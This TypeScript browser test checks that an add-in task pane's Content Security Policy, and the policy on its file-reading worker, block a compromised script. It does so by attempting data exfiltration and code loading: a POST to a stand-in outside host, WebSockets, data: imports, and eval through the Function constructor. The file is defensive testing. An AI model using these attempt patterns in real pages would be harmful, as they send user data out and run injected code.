import { strict as assert } from "node:assert";
import { importStrings } from "../../src/taskpane/strings/import";
import { zhCN } from "../../src/taskpane/strings/zh-CN";
import { reportDocument } from "../../src/write/report-document";
import { reportFile } from "../../src/write/report-file";
import { numberedReport } from "../write/reports";
import type { FrameLocator, Page } from "playwright-core";
import { browserCase, type BrowserCase, type CaseOptions } from "./cases";
import { drop } from "./drop-file";
import { openFromDisk } from "./open-from-disk";
import { timeLimit } from "./until";
import { WorkbenchPage } from "./workbench-page";
import { ready } from "../write/standings";

const elsewhere = "https://example.invalid/";

interface Trial {
  /** Where the pane's files are, ending in a slash. */
  readonly own: string;
  /** A place that is not the pane's. */
  readonly other: string;
  /** How many attempts are to be stopped; waited for so many milliseconds at most. */
  readonly count: number;
  readonly limit: number;
}

/**
 * Tries every way in which a script that got in could send what it knows, or load more of itself. Runs within the
 * pane's page or its worker.
 * @returns what the policy there stopped: addresses, "data" and "eval"
 */
async function stoppedHere({ own, other, count, limit }: Trial): Promise<string[]> {
  const stopped: string[] = [];
  addEventListener("securitypolicyviolation", ({ blockedURI }) => stopped.push(blockedURI));
  const attempts: (() => unknown)[] = [
    () => fetch(`${own}fetch`),
    () => fetch(`${other}fetch`, { method: "POST", mode: "no-cors", body: "382" }),
    () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${own}request`);
      request.send();
    },
    () => new WebSocket(`${own.replace("http", "ws")}socket`),
    () => new EventSource(`${own}events`),
    () => import(`data:text/javascript,${Date.now()}`),
    () => new Worker(`${own}worker`),
    () =>
      Reflect.construct(Reflect.get(globalThis, "Function") as () => void, ["return 1"]) as unknown,
  ];
  for (const attempt of attempts) {
    await new Promise((tried) => {
      // Later, because what a debugger runs at once may make code of text.
      setTimeout(() => {
        void (async () => attempt())()
          .catch(() => undefined)
          .finally(() => setTimeout(tried));
      });
    });
  }
  // They are reported later than they are stopped.
  for (const end = Date.now() + limit; stopped.length < count && Date.now() < end;)
    await new Promise((waited) => setTimeout(waited, 10));
  return stopped;
}

/** What {@link stoppedHere} has to answer where the policy holds. */
function everyAttempt(own: string): readonly string[] {
  return [
    `${own}fetch`,
    `${elsewhere}fetch`,
    `${own}request`,
    `${own.replace("http", "ws")}socket`,
    `${own}events`,
    "data",
    `${own}worker`,
    "eval",
  ];
}

/** Where all that is expected has to be stopped. */
function trialOf({ site }: BrowserCase, expected: readonly string[]): Trial {
  return { own: site, other: elsewhere, count: expected.length, limit: timeLimit };
}

const told: CaseOptions = { expectedErrors: /Content Security Policy|Refused to/ };

browserCase(
  "a script that got into the pane can send nothing and load nothing",
  async (browser) => {
    await WorkbenchPage.open(browser, { grid: false });
    const pane = browser.page.frame({ url: /taskpane\.html/ });
    assert.ok(pane);
    const expected = everyAttempt(browser.site);
    const stopped = await pane.evaluate(stoppedHere, trialOf(browser, expected));
    assert.deepEqual(stopped, expected);
  },
  told
);

/** Has a file read in a pane where one can be chosen, and tries every way from what reads it. */
async function assertStoppedInReader(
  browser: BrowserCase,
  pane: FrameLocator | Page,
  expected: readonly string[]
): Promise<void> {
  const { page } = browser;
  const started = page.waitForEvent("worker");
  await drop(pane, await reportFile(reportDocument(numberedReport("2021"), ready), "docx"));
  const worker = await started;
  await pane
    .getByRole("button", { name: importStrings["zh-CN"].choose })
    .waitFor({ state: "detached" });
  const stopped = await worker.evaluate(stoppedHere, trialOf(browser, expected));
  assert.deepEqual(stopped, expected);
}

async function keepWorkers(page: Page): Promise<void> {
  await page.addInitScript(() => {
    // So that they can still be asked when they have read.
    Worker.prototype.terminate = () => undefined;
  });
}

browserCase(
  "what reads a file beside the pane is held by the pane's policy",
  async (browser) => {
    await keepWorkers(browser.page);
    const { pane } = await WorkbenchPage.open(browser, { grid: false });
    await pane.getByRole("button", { name: zhCN.importing.previous }).click();
    await pane.getByRole("button", { name: importStrings["zh-CN"].choose }).waitFor();
    await assertStoppedInReader(browser, pane, everyAttempt(browser.site));
  },
  told
);

browserCase(
  "what reads a file beside a pane on disk is held by the pane's policy",
  async (browser) => {
    await keepWorkers(browser.page);
    await openFromDisk(browser);
    // A worker of another origin, as everything is to a page on disk, is refused before the policy is asked.
    const expected = everyAttempt(browser.site).filter((each) => !each.endsWith("/worker"));
    await assertStoppedInReader(browser, browser.page, expected);
  },
  told
);
